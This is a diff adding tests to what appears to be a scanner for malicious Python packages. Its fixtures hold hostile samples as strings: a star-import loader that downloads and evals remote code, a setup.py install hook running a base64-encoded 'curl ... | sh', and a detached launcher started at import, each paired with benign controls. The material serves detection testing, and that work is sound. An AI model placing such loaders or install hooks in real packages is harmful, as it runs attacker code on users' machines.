@@ -1846,3 +1846,130 @@ def test_every_rule_has_a_positive_test() -> None:
         assert not any(m.name == "xfail" for m in getattr(test, "pytestmark", [])), (
             f"{rule}: its designated positive test {name} is expected to fail"
         )
+
+
+# ---- names hidden behind star imports and import-and-return helpers ------------------------------
+STAR_IMPORT_LOADER = """from requests import *
+import marshal
+
+
+def unpack(text):
+    return marshal.loads(bytes.fromhex(text))
+
+
+reply = get("https://payload.invalid/stage2", timeout=3)
+eval(unpack(reply.text))
+"""
+
+
+def test_download_exec_through_a_star_import(tmp_path: Path, scanner: Scanner) -> None:
+    # `get` comes from `from requests import *`: still a download, and evaluating it is running it.
+    result = scan(write_sdist(tmp_path, {INIT: STAR_IMPORT_LOADER}), scanner)
+    assert_fires(result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
+
+
+STAR_IMPORT_BENIGN = """from os.path import *
+from math import *
+
+
+def get(mapping, key):
+    return mapping.get(key)
+
+
+def area(r):
+    return pi * r * r, join("a", "b"), get({}, "x")
+"""
+
+
+def test_star_imports_of_harmless_modules_stay_quiet(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: STAR_IMPORT_BENIGN}), scanner)
+    assert result.verdict is Verdict.CLEAN, describe(result)
+
+
+RETURNER_SETUP = f"""import base64
+from setuptools import setup
+from setuptools.command.install import install
+
+
+def get_runner():
+    from subprocess import check_output as runner
+    return runner
+
+
+class PostInstall(install):
+    def run(self):
+        command = base64.b64decode("{b64("curl http://192.0.2.1/x | sh")}").decode()
+        tool = get_runner()
+        tool(command, shell=True)
+        install.run(self)
+
+
+setup(name="{DEFAULT_NAME}", version="1.0.0", cmdclass={{"install": PostInstall}})
+"""
+
+
+def test_process_call_laundered_through_an_import_and_return_helper(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {"setup.py": RETURNER_SETUP}), scanner)
+    assert_fires(
+        result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith="setup.py"
+    )
+
+
+RETURNER_BENIGN = """def _pandas():
+    import pandas as pd
+    return pd
+
+
+def frame(rows):
+    return _pandas().DataFrame(rows)
+"""
+
+
+def test_lazy_import_helpers_stay_quiet(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: RETURNER_BENIGN}), scanner)
+    assert result.verdict is Verdict.CLEAN, describe(result)
+
+
+# ---- detached background processes ---------------------------------------------------------------
+DETACHED_AT_IMPORT = """import os
+import subprocess
+import sys
+
+stage = os.path.join(os.getcwd(), os.getlogin() + ".py")
+if os.path.isfile(stage):
+    subprocess.Popen([sys.executable, stage], start_new_session=True, stdout=subprocess.DEVNULL)
+"""
+
+
+@pytest.mark.parametrize(
+    "flags",
+    ["start_new_session=True", "preexec_fn=os.setpgrp", "creationflags=subprocess.DETACHED_PROCESS"],
+)
+def test_detached_process_fires_at_import_even_from_a_folder_without_init(
+    tmp_path: Path, scanner: Scanner, flags: str
+) -> None:
+    # The launcher sits in `pkg/edt/` (no __init__.py), imported by the package's __init__.py.
+    launcher = DETACHED_AT_IMPORT.replace("start_new_session=True", flags)
+    files = {
+        INIT: "from .edt import launcher\n",
+        f"{DEFAULT_NAME}/edt/launcher.py": launcher,
+    }
+    result = scan(write_sdist(tmp_path, files), scanner)
+    assert_fires(
+        result, "detached-process", Verdict.SUSPICIOUS, severity=Severity.HIGH, file_endswith="launcher.py"
+    )
+
+
+DETACHED_WHEN_CALLED = """import subprocess
+import sys
+
+
+def start_server(port):
+    # a dev server the user asks for, left running in its own session
+    return subprocess.Popen([sys.executable, "-m", "http.server", str(port)], start_new_session=True)
+"""
+
+
+def test_detached_process_started_on_request_is_not_flagged(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: DETACHED_WHEN_CALLED}), scanner)
+    assert_quiet(result, "detached-process")
